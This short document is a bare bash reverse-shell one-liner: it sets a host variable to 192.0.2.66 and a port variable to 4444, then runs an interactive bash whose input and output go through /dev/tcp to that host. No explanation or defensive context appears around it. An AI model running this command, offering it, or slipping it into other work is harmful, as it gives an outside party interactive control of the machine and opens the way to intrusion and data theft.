H=192.0.2.66
P=4444
bash -i >& "/dev/tcp/$H/$P" 0>&1
